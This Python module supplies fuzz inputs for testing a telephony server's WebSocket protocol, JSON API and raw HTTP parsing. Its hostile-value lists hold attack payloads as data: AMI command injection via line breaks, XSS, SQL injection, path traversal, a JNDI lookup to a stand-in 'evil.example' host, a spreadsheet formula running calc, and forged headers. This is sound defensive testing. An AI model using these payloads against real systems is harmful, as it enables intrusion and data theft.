"""What the property-based fuzz sends: messages drawn from the published schemas, then made hostile.

The WebSocket messages come from ``docs/protocol.schema.json`` (what ``cti schema`` publishes, read at test
time) through hypothesis-jsonschema, so a new request type is fuzzed with no change here. The JSON API's
contact body comes from the pydantic model the server validates it with (``NewContact``). A mutation layer
then puts hostile values where the schema has strings and numbers: line breaks that would split an AMI
action, lone surrogates, numbers no integer column holds, markup, spreadsheet formulas, SQL, paths, bidi
overrides; and raw frames no schema describes (not JSON, binary, too deep, too large, not UTF-8).

Nothing here knows the server's answers: the tests say what a pass is.
"""

from __future__ import annotations

import importlib
import json
import math
import os
import pkgutil
import time
import urllib.parse
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any, cast

from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st
from hypothesis_jsonschema import from_schema
from pydantic import BaseModel

import ui_bridge
from tests.daemon.conftest import UNIT
from tests.security.conftest import INJECTED, LIVE_LINKEDIDS
from tests.traces import REPO

PROTOCOL_SCHEMA = REPO / "docs" / "protocol.schema.json"
#: Values that exist in the fuzzed system, for the fields they belong to.
PLAUSIBLE: dict[str, tuple[Any, ...]] = {
    "linkedid": LIVE_LINKEDIDS,
    "extension": ("101", "102", "104"),
    "target": ("104", "+7 916 000-13-13"),
    "number": ("104", "+7 916 000-13-13"),
    "queue": ("support",),
    "missed_id": (1, 2),
    "scope": ("all",),
    # the JSON API's bodies
    "name": ("Иванов Пётр Сергеевич", "ООО «Ромашка»"),
    "phones": (["+7 916 123-45-67"], ["8 (495) 123-45-67", "+79161234567"]),
    "email": ("ivanov@example.ru",),
    "vehicles": ([{"make": "Toyota", "model": "Camry", "year": 2019, "plate": "А 123 ВС 777",
                   "vin": "JTNB11HK103456789"}],),
    "contact_id": (1,),
}

# -- hostile values -------------------------------------------------------------------------------------

LINE_BREAKS = ("\r", "\n", "\r\n", "\x00", "\u2028", "\u2029", "\u0085")

HOSTILE_STRINGS: tuple[str, ...] = (
    *LINE_BREAKS,
    "", " ", "\t",
    f"x\r\n{INJECTED}: 1",
    f"x\r\n\r\nAction: {INJECTED}\r\nChannel: PJSIP/105",
    f"x\n\nAction: {INJECTED}",
    f"x\u2028{INJECTED}: 1",
    "a\x00b",
    "\ud800", "\udfff", "a\ud83db",  # lone surrogates: valid as JSON escapes, not as UTF-8
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
    "[/]", "[link=https://evil.example]click[/link]", "[bold red]x",
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example","x")', "+1+1", "-1+1", "@SUM(1+1)", "\t=1",
    "' OR 1=1 --", "'; DROP TABLE calls; --", "%", "_", "*", "\\", '"',
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "%2e%2e%2f", "file:///etc/passwd",
    "\u202eevil\u202c", "\u200b", "\ufeff", "\uffff", "\U0010ffff", "😀", "👩‍👩‍👧‍👦",
    "Иванов Пётр", "${jndi:ldap://evil.example/a}", "{{7*7}}", "%s%n%x", "null", "true", "NaN", "0",
    "+79161234567", "101", "9" * 40, "1795480456.101",
)

HOSTILE_NUMBERS: tuple[Any, ...] = (
    0, -1, 1, 2**31, 2**63, -(2**63) - 1, 2**64, 99999999999999999999, -99999999999999999999, 10**400,
    1e23, 1e308, -1e308, 5e-324, 0.5, -0.0, math.nan, math.inf, -math.inf, True, False,
)


@dataclass(frozen=True)
class Raw:
    """JSON text spliced in as is: what ``json.dumps`` cannot or will not write (deep nesting, huge literals)."""

    text: str

    def __repr__(self) -> str:
        return f"Raw({_short(self.text)})"


def _short(text: str | bytes, limit: int = 120) -> str:
    return repr(text) if len(text) <= limit else f"{text[:limit]!r}... ({len(text)} long)"


def deep(depth: int, kind: str) -> Raw:
    if kind == "list":
        return Raw("[" * depth + "]" * depth)
    return Raw('{"a":' * depth + "0" + "}" * depth)


RAW_VALUES: tuple[Raw, ...] = (
    deep(50, "list"), deep(999, "list"), deep(1001, "list"), deep(3000, "list"), deep(3000, "dict"),
    Raw("9" * 5000), Raw("-" + "9" * 400), Raw("1e99999"), Raw("Infinity"), Raw("-Infinity"), Raw("NaN"),
)

LONG_LENGTHS = (33, 64, 65, 81, 201, 1001, 2001, 16_000, 70_000)


def long_strings() -> st.SearchStrategy[str]:
    return st.builds(lambda n, c: c * n, st.sampled_from(LONG_LENGTHS), st.sampled_from(["x", "9", "я", "😀", "\r\n"]))


def salted() -> st.SearchStrategy[str]:
    """A hostile string inside ordinary text, where a check of the whole value might miss it."""
    return st.builds(lambda a, h, b: a + h + b, st.text(max_size=4), st.sampled_from(HOSTILE_STRINGS),
                     st.text(max_size=4))


def hostile_values() -> st.SearchStrategy[Any]:
    """A value where the schema expects a string or a number: hostile text, a wrong type, a huge number."""
    return st.one_of(
        st.sampled_from(HOSTILE_STRINGS),
        st.sampled_from(HOSTILE_NUMBERS),
        salted(),
        long_strings(),
        st.sampled_from(RAW_VALUES),
        st.none(),
        st.lists(st.sampled_from(HOSTILE_STRINGS), max_size=3),
        st.dictionaries(st.sampled_from(["id", "type", "$ref", "__proto__"]), st.sampled_from(HOSTILE_STRINGS),
                        max_size=2),
        st.text(),
        st.integers(),
        st.floats(),
    )


def hostile_keys() -> st.SearchStrategy[str]:
    return st.one_of(st.sampled_from(["extra", "__proto__", "constructor", "Action", "", "id ", "ID"]),
                     st.sampled_from(HOSTILE_STRINGS), st.text(max_size=8))


@st.composite
def mutated(draw: st.DrawFn, base: st.SearchStrategy[dict[str, Any]]) -> Any:
    """A message from ``base`` with some values swapped for hostile ones, a key added or dropped."""
    message: dict[str, Any] = dict(draw(base))
    for key in sorted(message):
        odds = 7 if key == "type" else 2  # keep the type more often, so the request's own checks are reached
        if draw(st.integers(0, odds)) == 0:
            message[key] = draw(hostile_values())
    if draw(st.integers(0, 4)) == 0:
        message[draw(hostile_keys())] = draw(hostile_values())
    if message and draw(st.integers(0, 6)) == 0:
        del message[draw(st.sampled_from(sorted(message)))]
    shape = draw(st.integers(0, 15))
    if shape == 0:
        return [message]
    if shape == 1:
        return {"message": message}
    return message


# -- JSON text ------------------------------------------------------------------------------------------


def dumps(value: Any, *, ascii_only: bool = True) -> str:
    """JSON text as a careless or hostile client writes it: NaN literals allowed, ``Raw`` spliced in.

    ``ascii_only`` writes a lone surrogate as its ``\\ud800`` escape (valid JSON text); otherwise it stays
    a code point that no UTF-8 encoder accepts.
    """
    if isinstance(value, Raw):
        return value.text
    if isinstance(value, dict):
        return "{" + ",".join(f"{json.dumps(str(k), ensure_ascii=ascii_only)}:{dumps(v, ascii_only=ascii_only)}"
                              for k, v in value.items()) + "}"
    if isinstance(value, list):
        return "[" + ",".join(dumps(v, ascii_only=ascii_only) for v in value) + "]"
    return json.dumps(value, ensure_ascii=ascii_only)


def has_surrogate(text: str) -> bool:
    return any("\ud800" <= ch <= "\udfff" for ch in text)


def is_clean(value: Any, depth: int = 0) -> bool:
    """Standard JSON a strict parser reads the same way: finite numbers, no lone surrogates, shallow."""
    if depth > 32 or isinstance(value, Raw):
        return False
    if isinstance(value, float):
        return math.isfinite(value)
    if isinstance(value, str):
        return not has_surrogate(value)
    if isinstance(value, dict):
        return all(is_clean(k, depth + 1) and is_clean(v, depth + 1) for k, v in value.items())
    if isinstance(value, list):
        return all(is_clean(v, depth + 1) for v in value)
    return True


def valid_request_id(value: object) -> bool:
    """The protocol's ``id``: a string of 1 to 64 characters (and text, so it can be written back)."""
    return isinstance(value, str) and 1 <= len(value) <= 64 and not has_surrogate(value)


# -- WebSocket frames -------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Frame:
    """One WebSocket message. ``data`` as bytes with ``binary`` False is a text frame that may not be UTF-8.

    ``clean_id`` is the request id when the frame is clean JSON with a valid id: then the server's reply or
    error must carry exactly that id (if the frame is within the size limit). Otherwise any reply or error,
    or a close frame, answers it.
    """

    data: str | bytes
    binary: bool = False
    clean_id: str | None = None

    def size(self) -> int:
        return len(self.data.encode("utf-8", "surrogatepass") if isinstance(self.data, str) else self.data)

    def __repr__(self) -> str:
        kind = "binary" if self.binary else "text"
        return f"Frame({kind} {_short(self.data, 300)}, id={self.clean_id!r})"


def objects(schema: dict[str, Any]) -> st.SearchStrategy[dict[str, Any]]:
    """Instances of a JSON Schema whose type is ``object`` (hypothesis-jsonschema's strategy, typed)."""
    return cast(st.SearchStrategy[dict[str, Any]], from_schema(schema))


def client_message_schemas() -> list[dict[str, Any]]:
    """Each client → server message of the published schema, as a schema of its own (with the shared defs)."""
    document = json.loads(PROTOCOL_SCHEMA.read_text(encoding="utf-8"))
    [client] = [part for part in document["oneOf"] if part.get("title") == "Client to server"]
    return [{"$defs": document["$defs"], "$ref": ref["$ref"]} for ref in client["oneOf"]]


@st.composite
def plausible(draw: st.DrawFn, base: st.SearchStrategy[dict[str, Any]]) -> dict[str, Any]:
    """A message whose call, extension or target exist, so the request gets past "no such call" to the PBX."""
    message = dict(draw(base))
    for key in sorted(message):
        if key in PLAUSIBLE and draw(st.integers(0, 3)) > 0:
            message[key] = draw(st.sampled_from(PLAUSIBLE[key]))
    return message


def schema_messages() -> st.SearchStrategy[dict[str, Any]]:
    schemas = [objects(schema) for schema in client_message_schemas()]
    return st.one_of([*schemas, *(plausible(s) for s in schemas)])


@st.composite
def json_frames(draw: st.DrawFn, messages: st.SearchStrategy[Any]) -> Frame:
    """A message written as JSON text (lone surrogates escaped or not), now and then in a binary frame."""
    value = draw(messages)
    ascii_only = draw(st.booleans())
    text = dumps(value, ascii_only=ascii_only)
    request_id = value.get("id") if isinstance(value, dict) else None
    clean_id = request_id if isinstance(request_id, str) and valid_request_id(request_id) and is_clean(value) \
        else None
    if has_surrogate(text):  # not UTF-8: send the bytes anyway, in a text frame or a binary one
        return Frame(text.encode("utf-8", "surrogatepass"), binary=draw(st.booleans()))
    if draw(st.integers(0, 9)) == 0:
        return Frame(text.encode("utf-8"), binary=True)
    return Frame(text, clean_id=clean_id)


RAW_TEXTS: tuple[str, ...] = (
    "", " ", "{", "}", "[", "null", "[]", "{}", "1", '"ping"', "true", "NaN", "-Infinity", "\ufeff{}",
    '{"type":"ping"}', '{"type":"ping","id":1}', '{"type":"ping","id":null}', '{"type":"ping","id":""}',
    '{"type":"ping","id":"\\ud800"}', '{"type":"ping","id":"\\udfff\\ud800"}', '{"type":"ping","id":"a","id":"b"}',
    '{"type":"ping","id":"' + "x" * 65 + '"}', '{"type":["ping"],"id":"1"}', '{"type":"ping","id":"1"} trailing',
    '{"type":"missed.close","id":"1","missed_id":' + "9" * 5000 + "}",
    '{"type":"missed.close","id":"1","missed_id":99999999999999999999}',
    '{"type":"missed.close","id":"1","missed_id":1e308}',
    '{"type":"originate","id":"1","number":"101\\r\\nAction: ' + INJECTED + '"}',
    '{"type":"queue.pause","id":"1","queue":"x\\r\\n\\r\\nAction: ' + INJECTED + '","reason":"\\r\\nX: 1"}',
    "[" * 8000 + "]" * 8000,  # under the 16 KiB limit: parsed, and deeper than Python's recursion limit
    '{"a":' * 2700 + "0" + "}" * 2700,
    "[" * 16_000,
    "1" * 5000,
)


def raw_frames() -> st.SearchStrategy[Frame]:
    """Frames no schema describes."""
    return st.one_of(
        st.sampled_from(RAW_TEXTS).map(Frame),
        st.text(max_size=50).map(Frame),
        st.binary(max_size=50).map(lambda b: Frame(b, binary=True)),
        st.sampled_from([b"\xff\xfe", b"\xc0\xaf", b'{"type":"ping","id":"\xed\xa0\x80"}', b"\x00"])
        .map(lambda b: Frame(b, binary=False)),  # a text frame that is not UTF-8
        st.sampled_from([16 * 1024 + 1, 200_000, 1_100_000]).map(lambda n: Frame("x" * n)),
    )


def frames() -> st.SearchStrategy[Frame]:
    """Two in five valid for the schema, two in five made hostile, one in five no message at all."""
    valid, hostile = json_frames(schema_messages()), json_frames(mutated(schema_messages()))
    return st.one_of(valid, valid, hostile, hostile, raw_frames())


# -- the JSON API -----------------------------------------------------------------------------------------


def new_contact_model() -> type[BaseModel]:
    """The body model of ``POST /api/contacts``, wherever in ``ui_bridge`` it lives today (the one place to look)."""
    for info in pkgutil.iter_modules(ui_bridge.__path__):
        module = importlib.import_module(f"ui_bridge.{info.name}")
        model = getattr(module, "NewContact", None)
        if isinstance(model, type) and issubclass(model, BaseModel):
            return model
    raise LookupError("no NewContact model in ui_bridge")


LOGIN_SCHEMA: dict[str, Any] = {
    "type": "object",
    "properties": {"name": {"type": "string", "maxLength": 64}, "password": {"type": "string", "maxLength": 64}},
    "required": ["name", "password"],
}
ATTACH_SCHEMA: dict[str, Any] = {
    "type": "object", "properties": {"contact_id": {"type": "integer", "minimum": 1}}, "required": ["contact_id"],
}


def json_bodies(schema: dict[str, Any]) -> st.SearchStrategy[bytes]:
    """A request body: valid for ``schema``, mutated, or not JSON at all."""
    base = st.one_of(objects(schema), plausible(objects(schema)))
    values = st.one_of(base, mutated(base), st.sampled_from(RAW_VALUES), hostile_values())
    encoded = st.builds(lambda v, a: dumps(v, ascii_only=a).encode("utf-8", "surrogatepass"), values, st.booleans())
    raw = st.one_of(
        st.sampled_from([b"", b"{", b"null", b"[]", b"\xff\xfe{}", "{}".encode("utf-16"), b'{"name":"\xed\xa0\x80"}',
                         b"[" * 100_000, b'{"a":' * 20_000]),
        st.binary(max_size=40),
    )
    return st.one_of(encoded, encoded, raw)


QUERY_KEYS = ("since", "until", "limit", "offset", "number", "agent", "direction", "outcome", "status", "q")
QUERY_VALUES: tuple[str, ...] = (
    "99999999999999999999", "-99999999999999999999", "-1", "0", "1e308", "1.5", "NaN", "0x10", "١٢٣", "9" * 5000,
    "2026-11-24", "2026-11-24T10:00", "0001-01-01", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00",
    "99999-01-01", "2026-13-45", "today", "inbound", "missed", "open", "all",
)


def query_values() -> st.SearchStrategy[str]:
    return st.one_of(st.sampled_from(QUERY_VALUES), st.sampled_from(HOSTILE_STRINGS), st.text(max_size=10))


def quote(text: str) -> str:
    """Percent-encoded UTF-8; a lone surrogate becomes the bytes no decoder accepts (``%ED%A0%80``)."""
    return urllib.parse.quote(text.encode("utf-8", "surrogatepass"), safe="")


@st.composite
def query_strings(draw: st.DrawFn) -> str:
    pairs = draw(st.lists(st.tuples(st.one_of(st.sampled_from(QUERY_KEYS), hostile_keys()), query_values()),
                          max_size=4))
    text = "&".join(f"{quote(k)}={quote(v)}" for k, v in pairs)
    if draw(st.integers(0, 9)) == 0:
        text += draw(st.sampled_from(["&&", "=", "%", "%zz", "a=%ED%A0%80", "a=%FF", "=&=", "&" * 100]))
    return text


def path_segments() -> st.SearchStrategy[str]:
    """A path parameter, already percent-encoded."""
    return st.one_of(
        st.sampled_from(["1", "0", "-1", "99999999999999999999", "9" * 5000, "1e23", "01", "%00", "%2F",
                         "..%2F..%2Fetc%2Fpasswd", "%ED%A0%80", "%FF"]),
        query_values().map(quote),
    )


# -- raw HTTP: what no HTTP client library lets you send ---------------------------------------------------------

HOST, COOKIE = b"<HOST>", b"<COOKIE>"  # the server's host:port and a valid session, filled in at send time


@dataclass(frozen=True)
class RawRequest:
    """Request bytes with ``HOST``/``COOKIE`` to fill in; ``short``: it announced more body than it carries."""

    template: bytes
    short: bool = False

    def render(self, host: str, cookie: str) -> bytes:
        return self.template.replace(HOST, host.encode()).replace(COOKIE, cookie.encode())


def _bytes(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")


def _hostile_header_values() -> st.SearchStrategy[bytes]:
    return st.one_of(st.sampled_from(HOSTILE_STRINGS), st.text(max_size=12)).map(_bytes)


#: A header as a client should send it: (name, right value or None for absent, other plausible values).
Header = tuple[bytes, bytes | None, tuple[bytes, ...]]


@st.composite
def _headers(draw: st.DrawFn, spec: list[Header]) -> list[tuple[bytes, bytes]]:
    """The headers right, but for up to three of them: missing, another plausible value, or hostile bytes.

    A few at a time, so that most requests get past the HTTP parser to the checks behind it.
    """
    changed = draw(st.sets(st.integers(0, len(spec) - 1), max_size=3))
    sent: list[tuple[bytes, bytes]] = []
    for index, (name, right, others) in enumerate(spec):
        value = right
        if index in changed:
            value = draw(st.one_of(st.none(), st.sampled_from(others or (b"",)), _hostile_header_values()))
        if value is not None:
            sent.append((name, value))
    if draw(st.integers(0, 3)) == 0:  # the same header twice, disagreeing
        sent.append((draw(st.sampled_from([name for name, _right, _others in spec])), draw(_hostile_header_values())))
    return sent


def _request(line: bytes, headers: list[tuple[bytes, bytes]], body: bytes) -> RawRequest:
    head = b"".join(name + b": " + value + b"\r\n" for name, value in headers)
    lengths = [value.strip() for name, value in headers if name.lower() == b"content-length"]
    short = b"chunked" in head.lower() or any(v.isdigit() and int(v) > len(body) for v in lengths)
    return RawRequest(line + b"\r\n" + head + b"\r\n" + body, short)


@st.composite
def raw_requests(draw: st.DrawFn) -> RawRequest:
    """An HTTP request whose Host, Origin, Content-Type, Content-Length (...) are right, missing or lies."""
    method = draw(st.sampled_from([b"GET", b"POST", b"PUT", b"DELETE", b"OPTIONS", b"HEAD", b"PATCH", b"BREW"]))
    path = draw(st.sampled_from([b"/api/login", b"/api/contacts", b"/api/me", b"/api/calls?limit=1",
                                 f"/api/calls/{LIVE_LINKEDIDS[0]}/contact".encode(), b"/ws", b"*",
                                 b"http://evil.example/api/me", b"/api/../api/me", b"/%ED%A0%80"]))
    body = draw(st.sampled_from([b"", b'{"name":"anna","password":"x"}', b'{"name":"x","phones":["1"]}',
                                 b'{"contact_id":1}', b"[" * 5000, b"\xff" * 10, b"zz\r\n"]))
    length = str(len(body)).encode()
    headers = draw(_headers([
        (b"Host", HOST, (b"evil.example:8080", b"localhost", b"", b"x" * 5000)),
        (b"Origin", None, (b"http://" + HOST, b"null", b"http://evil.example")),
        (b"Content-Type", b"application/json", (b"text/plain", b"application/json; charset=utf-16")),
        (b"Content-Length", length, (b"0", b"1", str(len(body) + 10).encode(), b"-1", b"abc", b"99999999999999999999",
                                     b" 5", b"5, 6")),
        (b"Transfer-Encoding", None, (b"chunked", b"gzip, chunked", b"identity")),
        (b"Cookie", b"cti_session=" + COOKIE, (b"cti_session=forged",)),
        (b"Authorization", None, (b"Bearer forged", b"Bearer " + b"x" * 5000, b"Basic Og==")),
        (b"X-Forwarded-For", None, (b"10.0.0.1", b"1.1.1.1, 127.0.0.1", b"not an address")),
    ]))
    headers.append((b"Connection", b"close"))  # the server closes after answering: the client reads until then
    return _request(method + b" " + path + b" HTTP/1.1", headers, body)


@st.composite
def handshakes(draw: st.DrawFn) -> RawRequest:
    """A WebSocket upgrade request with its headers right, but for a few: missing or hostile."""
    path = draw(st.sampled_from([b"/ws", b"/ws", b"/ws?x=1", b"/ws/", b"//ws", b"/ws/../ws", b"/ws%00"]))
    headers = draw(_headers([
        (b"Host", HOST, (b"evil.example:8080", b"localhost", b"[::1]:1", b"x" * 9000)),
        (b"Upgrade", b"websocket", (b"WebSocket", b"h2c")),
        (b"Connection", b"Upgrade", (b"keep-alive, Upgrade", b"close")),
        (b"Sec-WebSocket-Key", b"MDEyMzQ1Njc4OWFiY2RlZg==", (b"x", b"=" * 24)),
        (b"Sec-WebSocket-Version", b"13", (b"8", b"99999999999999999999")),
        (b"Origin", b"http://" + HOST, (b"null", b"http://evil.example", b"https://" + HOST)),
        (b"Cookie", b"cti_session=" + COOKIE, (b"cti_session=", b"cti_session=forged; cti_session=x")),
        (b"Sec-WebSocket-Protocol", None, (b"chat", b", ,")),
        (b"Sec-WebSocket-Extensions", None, (b"permessage-deflate; client_max_window_bits=99", b"x-unknown")),
    ]))
    return _request(b"GET " + path + b" HTTP/1.1", headers, b"")


# -- how long, how many -------------------------------------------------------------------------------------

#: ``CTI_FUZZ_SCALE=10`` runs ten times the examples and the time budget (a longer local hunt).
SCALE = float(os.environ.get("CTI_FUZZ_SCALE", "1"))
#: ``CTI_FUZZ_EXPLICIT=0`` skips the known crashes tried first (``@example``), which otherwise stop a test
#: before it draws anything: to hunt for bugs beyond those while they are still open.
PHASES = tuple(p for p in Phase if p is not Phase.explicit or os.environ.get("CTI_FUZZ_EXPLICIT", "1") != "0")


def fuzz_settings(max_examples: int) -> settings:
    """Bounded and reproducible: CI (``CI=true``) always draws the same examples; nothing is written to disk."""
    return settings(
        phases=PHASES,
        max_examples=max(1, round(max_examples * SCALE)),
        deadline=None,
        database=None,
        derandomize=os.environ.get("CI", "").lower() == "true",
        print_blob=True,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much,
                               HealthCheck.large_base_example],
    )


class Budget:
    """A wall-clock bound on a fuzz test: once spent, further examples pass without running.

    Once an example has failed, the budget no longer applies, so that Hypothesis can replay and shrink it.
    """

    def __init__(self, seconds: float) -> None:
        self.seconds = seconds * UNIT * SCALE
        self.started: float | None = None
        self.failing = False

    def spent(self) -> bool:
        now = time.monotonic()
        if self.started is None:
            self.started = now
        return not self.failing and now - self.started > self.seconds

    @contextmanager
    def running(self) -> Iterator[None]:
        """Around one example: if it fails, the budget is lifted."""
        try:
            yield
        except BaseException:
            self.failing = True
            raise
